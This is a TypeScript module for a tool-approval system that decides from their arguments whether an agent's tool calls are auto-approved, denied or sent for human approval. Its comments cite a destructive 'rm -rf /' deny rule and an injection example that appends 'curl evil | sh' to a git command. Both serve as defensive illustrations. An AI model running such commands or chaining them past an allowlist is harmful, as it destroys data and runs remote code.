/**
 * `security.tool_approval.argument_rules`: decisions on what a call's arguments say, e.g.
 *
 *   - { tool: exec_command, arg: cmd, pattern: '^git (status|diff|log)( .*)?$', action: auto_approve }
 *   - { tool: exec_command, arg: cmd, contains: 'rm -rf /', action: deny, reason: never }
 *   - { tool: http_get, arg: url, pattern: '://(10|192\.168)\.', action: require_approval }
 *
 * `tool` is a name or glob (after tool_aliases; `*`: every tool); `arg` a dotted path into the
 * arguments (`cmd`, `headers.host`, `argv.0`), or the whole arguments' canonical JSON when absent.
 * A string value is matched as is; any other value as its canonical JSON; a missing one never
 * matches. `contains` is case-sensitive plain text.
 *
 * An allowlist must not let more through than it names: an `auto_approve` pattern has to match
 * the WHOLE value (it is anchored, `^(?:pattern)$`), so `git status` does not also approve
 * `git status; curl evil | sh`. `deny` and `require_approval` patterns match anywhere.
 */
import type { ArgumentRule } from "../../config/schema.ts";
import { normalizeArgs } from "./normalize.ts";
import { type ToolMatcher, toolMatcher } from "./tool-match.ts";

export type ArgumentAction = ArgumentRule["action"];

export interface CompiledArgumentRule {
  /** Position in the config list, for reasons people can find. */
  index: number;
  action: ArgumentAction;
  tool: ToolMatcher;
  arg: string | null;
  describe: string;
  test(args: unknown): boolean;
}

/** The value at a dotted path, or undefined. Own properties only: `constructor` is not an argument. */
export function valueAtPath(args: unknown, path: string): unknown {
  let current: unknown = args;
  for (const segment of path.split(".")) {
    if (typeof current !== "object" || current === null) return undefined;
    if (Array.isArray(current)) {
      if (!/^(0|[1-9]\d*)$/.test(segment)) return undefined;
      current = current[Number(segment)];
    } else {
      if (!Object.hasOwn(current, segment)) return undefined;
      current = (current as Record<string, unknown>)[segment];
    }
  }
  return current;
}

function subject(args: unknown, arg: string | null): string | undefined {
  const value = arg === null ? args : valueAtPath(args, arg);
  if (value === undefined) return undefined;
  if (typeof value === "string") return value;
  try {
    return normalizeArgs(value);
  } catch {
    return undefined;
  }
}

export function compileArgumentRule(
  rule: ArgumentRule,
  index: number,
  aliases: ReadonlyMap<string, string>,
): CompiledArgumentRule {
  const anchored = rule.action === "auto_approve";
  const re = rule.pattern === null ? null : new RegExp(anchored ? `^(?:${rule.pattern})$` : rule.pattern);
  const target = rule.arg ?? "(arguments)";
  const what = [
    re === null ? null : `${target} ${anchored ? "matches" : "contains a match of"} /${rule.pattern}/`,
    rule.contains === null ? null : `${target} contains ${JSON.stringify(rule.contains)}`,
  ]
    .filter((part) => part !== null)
    .join(" and ");
  const describe = `argument rule #${index + 1} (${rule.tool}: ${what})${rule.reason ? `: ${rule.reason}` : ""}`;
  return {
    index,
    action: rule.action,
    tool: toolMatcher([rule.tool], aliases),
    arg: rule.arg,
    describe,
    test(args) {
      const text = subject(args, rule.arg);
      if (text === undefined) return false;
      // Both given: both must hold (each narrows the rule).
      if (re !== null && !re.test(text)) return false;
      if (rule.contains !== null && !text.includes(rule.contains)) return false;
      return true;
    },
  };
}

/** The first rule with `action` that applies to `tool` and these arguments. */
export function firstMatchingRule(
  rules: readonly CompiledArgumentRule[],
  action: ArgumentAction,
  tool: string,
  args: unknown,
): CompiledArgumentRule | undefined {
  return rules.find((rule) => rule.action === action && rule.tool.matches(tool) && rule.test(args));
}
